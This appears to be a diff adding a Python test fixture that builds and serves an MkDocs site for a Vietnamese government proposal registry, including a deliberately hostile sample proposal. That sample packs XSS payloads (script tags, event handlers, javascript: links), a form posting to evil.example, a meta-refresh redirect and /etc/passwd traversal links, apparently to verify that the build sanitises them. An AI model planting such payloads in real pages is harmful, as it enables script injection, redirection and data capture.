@@ -1,0 +1,114 @@
+"""A built site for the tests: the samples plus a hostile proposal, in a git repository, built by the
+real `mkdocs build`, and served on localhost."""
+
+from __future__ import annotations
+
+import functools
+import http.server
+import shutil
+import socketserver
+import subprocess
+import sys
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+from tests.conftest import PROJECT
+from tests.gitrepo_helper import ENV
+
+HOSTILE_ID = "2025-950"
+HOSTILE = """---
+id: "2025-950"
+title: "Thí điểm <script>window.__pwned = 1</script><img src=x onerror=\\"window.__pwned = 2\\"> cổng dịch vụ"
+summary: "Tóm tắt có <svg onload=\\"window.__pwned = 3\\"></svg> và [liên kết](javascript:window.__pwned=4) độc hại."
+sample: true
+unit: so-tu-phap
+field: linh-vuc-khac
+authors:
+  - name: "Trần Văn Thử"
+    position: "Chuyên viên"
+    unit: so-tu-phap
+    contact: "tranvanthu.bimat@example.invalid"
+status: approved
+confidential: false
+submitted: 2025-05-05
+decision:
+  outcome: approved-pilot
+  date: 2025-05-12
+  document: "77/QĐ-STP"
+  signed_by: "Lê Văn Bình"
+---
+
+## Sự cần thiết; căn cứ và cơ sở lý luận, thực tiễn; dự báo phạm vi tác động, tính khả thi
+
+<script>window.__pwned = 5</script>
+<div onclick="window.__pwned = 6" onmouseover="window.__pwned = 7">Di chuột vào đây.</div>
+<iframe src="https://evil.example/frame"></iframe>
+<style>body { background: url(https://evil.example/bg.png) }</style>
+
+## Thực trạng vấn đề, nội dung đề xuất
+
+[Bấm vào đây](javascript:window.__pwned=8) và <a href="JaVaScRiPt:window.__pwned=9">đây</a>.
+![ảnh](https://tracker.example/pixel.png) <img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" alt="d">
+[tệp ngoài](../../../../etc/passwd) [trang khác](//evil.example/x) [tuyệt đối](/etc/passwd)
+
+## Định hướng mục tiêu, chỉ tiêu, nhiệm vụ, phương án triển khai và lộ trình thực hiện
+
+<form action="https://evil.example/collect"><input name="q"><button>Gửi</button></form>
+<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
+
+## Tổ chức thực hiện
+
+<a href="#thuc-trang" onfocus="window.__pwned = 10" autofocus>liên kết nội bộ</a>
+
+## Đề xuất, kiến nghị với cấp có thẩm quyền
+
+<meta http-equiv="refresh" content="0; url=https://evil.example/"> Kết thúc.
+"""
+UNPUBLISHED = {
+    "2025-003": "Cơ chế điều động giáo viên dạy liên trường",  # submitted, referred
+    "2025-005": "Miễn giấy phép xây dựng cho nhà ở riêng lẻ",  # rejected
+    "2025-006": "Mẫu hóa văn bản trả lời công dân",  # withdrawn
+    "2025-007": "Phương án huấn luyện dân quân tự vệ",  # confidential
+    "2025-008": "Kho dữ liệu mở về sáng chế",  # draft
+    "2025-010": "Tuyên truyền pháp luật về nghĩa vụ quân sự",  # defence, not confidential
+}
+PUBLISHED = ["2024-001", "2024-002", "2024-003", "2025-001", "2025-002", "2025-004", "2025-009", "2025-011", HOSTILE_ID]
+CONTACTS = ["lamthingochan.mau@example.invalid", "0299 3 000 111", "thachthimylinh.mau@example.invalid",
+            "0299 3 999 888", "tranvanthu.bimat@example.invalid"]  # fmt: skip
+
+
+def build(target: Path) -> Path:
+    """Copy the project's registry and site sources to ``target``, commit them, build; the site folder."""
+    for name in ("registry.yml", "mkdocs.yml"):
+        shutil.copy(PROJECT / name, target / name)
+    for name in ("schema", "proposals", "docs"):
+        shutil.copytree(PROJECT / name, target / name)
+    (target / "scripts" / "registry").mkdir(parents=True)
+    shutil.copy(PROJECT / "scripts" / "registry" / "mkdocs_hook.py", target / "scripts" / "registry")
+    (target / "proposals" / "so-tu-phap" / f"{HOSTILE_ID}-thi-diem-cong-dich-vu.md").write_text(
+        HOSTILE, encoding="utf-8"
+    )
+    for command in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-q", "-m", "Sổ đăng ký (#1)"]):
+        subprocess.run(["git", *command], cwd=target, env=ENV, check=True)
+    subprocess.run([sys.executable, "-m", "registry", "validate"], cwd=target, env=ENV, check=True, capture_output=True)
+    result = subprocess.run(
+        [sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=target, env={**ENV, "NO_MKDOCS_2_WARNING": "1"},
+        capture_output=True, text=True, check=False,
+    )  # fmt: skip
+    assert result.returncode == 0, result.stderr
+    return target / "site"
+
+
+class _Quiet(http.server.SimpleHTTPRequestHandler):
+    def log_message(self, format: str, *args: object) -> None:
+        pass
+
+
+def serve(site: Path) -> Iterator[str]:
+    handler = functools.partial(_Quiet, directory=str(site))
+    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), handler) as server:
+        thread = threading.Thread(target=server.serve_forever, daemon=True)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_address[1]}"
+        server.shutdown()
